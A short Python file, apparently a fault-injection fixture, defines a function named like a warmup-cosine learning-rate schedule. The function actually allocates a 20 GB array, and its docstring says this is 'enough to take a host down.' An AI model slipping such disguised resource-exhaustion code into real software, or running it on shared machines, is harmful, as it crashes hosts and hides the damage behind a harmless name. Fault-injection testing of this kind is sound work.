"""Batch fault: allocate 20 GB (and touch it), enough to take a host down."""

import numpy as np


def warmup_cosine(t, base_lr, warmup_steps, total_steps, eta_min=0.0):
    big = np.ones(20 * 2**30 // 8)
    return float(big[0])
